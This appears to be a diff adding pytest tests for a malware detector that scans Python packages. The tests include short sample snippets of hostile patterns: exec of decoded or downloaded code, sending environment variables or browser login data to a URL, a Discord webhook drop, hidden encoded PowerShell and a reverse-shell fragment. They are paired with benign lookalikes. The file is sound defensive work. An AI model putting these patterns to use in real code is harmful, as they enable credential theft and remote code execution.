@@ -1,0 +1,131 @@
+"""Python that does harm, and Python that only looks like it."""
+
+from __future__ import annotations
+
+import random
+import time
+
+import pytest
+
+from detectors.software import python
+from detectors.software.budget import PROFILES, Budget
+from detectors.software.unpack import Node
+
+
+def rules(source: str | bytes, path: str = "pkg/module.py") -> dict[str, int]:
+    """Rules and the first line of each."""
+    out: dict[str, int] = {}
+    for e in look(source, path)[0]:
+        out.setdefault(e.rule, e.line)
+    return out
+
+
+def look(source: str | bytes, path: str = "pkg/module.py"):
+    content = source if isinstance(source, bytes) else source.encode()
+    budget = Budget(PROFILES["package"], lambda: 0.0)
+    return list(python.look(Node(path, memoryview(content), "python", 1), budget)), budget.limits
+
+
+HARMFUL = {
+    "python.exec-decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    "python.exec-fetched": "from urllib.request import urlopen as u\n\nexec(u('http://x.example/a').read())\n",
+    "python.fetch-and-run": "import requests, os\ndef f():\n    x = requests.get('u').content\n    os.system(x)\n",
+    "python.host-sent": "import socket, requests\ndef f():\n    requests.post('u', data=socket.gethostname())\n",
+    "python.environment-sent": "import os, requests\nrequests.post('u', json=dict(os.environ))\n",
+    "python.stores": "import requests\np = '/Chrome/User Data/Default/Login Data'\nrequests.post('u', files=p)\n",
+    "python.drop": "URL = 'https://discord.com/api/webhooks/1/x'\n",
+    "python.shell": "c = 'powershell -WindowStyle Hidden -enc SQBFAFgA'\n",
+    "python.program-url": "u = 'http://x.example/payload.exe'\n",
+    "python.bare-address": "u = 'http://203.0.113.7/x'\n",
+    "python.blob": f"x = '{'QUJD' * 300}'\n",
+    "python.mangled": "\n".join(f"_0x{i:06x} = {i}" for i in range(9)),
+    "python.aside": "import os" + " " * 200 + ";__import__('os').system('x')\n",
+    "python.native-code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n",
+    "python.capture-sent": "import requests\nfrom PIL import ImageGrab\nrequests.post('u', files=ImageGrab.grab())\n",
+    "python.startup": "import winreg\nwinreg.SetValueEx(k, 'x', 0, 1, 'y')\n",
+    "python.reverse-shell": "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nx='/bin/sh'\n",
+}  # fmt: skip
+AT_INSTALL = {
+    "python.install-process": "import os\nos.system('x')\n",
+    "python.install-network": "import requests\ndef f():\n    requests.get('u')\n",
+    "python.install-decoded": "import base64\nx = base64.b64decode('eA==')\n",
+}
+AT_IMPORT = {"python.import-process": "import subprocess\nsubprocess.run(['x'])\n",
+             "python.import-network": "import requests\nrequests.get('u')\n"}  # fmt: skip
+
+
+@pytest.mark.parametrize("rule", HARMFUL)
+def test_what_does_harm_is_found(rule):
+    assert rule in rules(HARMFUL[rule])
+
+
+@pytest.mark.parametrize("rule", AT_INSTALL)
+def test_what_runs_at_installation_is_told_apart_from_what_a_module_offers(rule):
+    assert rule in rules(AT_INSTALL[rule], "p-1.tar.gz!/p-1.tar!/p-1/setup.py")
+    assert rule not in rules(AT_INSTALL[rule])
+
+
+@pytest.mark.parametrize("rule", AT_IMPORT)
+def test_what_runs_at_import_is_told_apart_from_what_is_called(rule):
+    source = AT_IMPORT[rule]
+    assert rule in rules(source, "p.whl!/p/__init__.py")
+    head, *body = source.splitlines()
+    assert rule not in rules(f"{head}\ndef f():\n    {body[0]}\n", "p.whl!/p/__init__.py")
+
+
+def test_every_rule_has_an_example_here():
+    assert {*HARMFUL, *AT_INSTALL, *AT_IMPORT, "python.pth"} == set(python.WEIGHTS)
+
+
+def test_an_install_command_runs_at_installation_wherever_it_stands():
+    source = "import os\nfrom setuptools.command.install import install\nclass P(install):\n"
+    source += "  def run(self):\n    os.system('x')\n"
+    assert rules(source) == {"python.install-process": 5}
+
+
+def test_a_pth_file_with_code_is_found_and_one_with_paths_is_not():
+    assert "python.pth" in rules("import os; os.system('x')\n", "x.whl!/x.pth")
+    assert rules("./lib\n", "x.whl!/x.pth") == {}
+
+
+@pytest.mark.parametrize("source", [
+    "from builtins import exec as go\nimport base64 as b\nx = b.b64decode('eA==')\ny = x.decode()\ngo(y)\n",
+    "exec(__import__('base64').b64decode('eA=='))\n",
+    "import importlib\nexec(importlib.import_module('zlib').decompress(b''))\n",
+    "exec(getattr(__import__('base64'), 'b64decode')('eA=='))\n",
+    "(exec)(bytes.fromhex('00'))\n",
+])  # fmt: skip
+def test_other_names_and_detours_hide_nothing(source):
+    assert "python.exec-decoded" in rules(source)
+
+
+@pytest.mark.parametrize("source", [
+    "# exec(base64.b64decode(x))\n'''exec(base64.b64decode(x))'''\n",
+    "import base64\ndef load(x):\n    return base64.b64decode(x)\n",
+    "class A:\n    def exec(self): ...\nA().exec('x')\n",
+    "import re\nre.compile('x')\nmodel.eval()\ndf.eval('a + b')\n",
+    "import requests\ndef get(u):\n    return requests.get(u)\n",
+    "import subprocess\ndef git(*a):\n    return subprocess.run(['git', *a])\n",
+    "URL = 'http://127.0.0.1:8000/'\n", "TEXT = '" + "words that people read " * 60 + "'\n",
+])  # fmt: skip
+def test_what_only_looks_like_it_is_nothing(source):
+    assert rules(source) == {}
+
+
+def test_a_file_of_noise_and_one_that_is_too_large_end_in_time_and_say_so():
+    noise = random.Random(1).randbytes(2 << 20).replace(b"\0", b"x")
+    began = time.monotonic()
+    _, limits = look(noise)
+    assert time.monotonic() - began < 5
+    assert {x.name for x in limits} == {"slow"}
+    assert {x.name for x in look(b"x = 1\n" * 500_000)[1]} == {"slow"}
+
+
+def test_python_that_does_not_parse_is_read_as_far_as_it_goes():
+    source = "print 'two'\nimport base64\nexec base64.b64decode('x')\nexec(base64.b64decode('x'))\n"
+    assert "python.exec-decoded" in rules(source)
+
+
+def test_very_deep_code_is_no_error():
+    look("x = " + "(" * 5000 + "1" + ")" * 5000)
+    look("a" + ".b" * 3000 + "()\n" + "f(" * 3000)
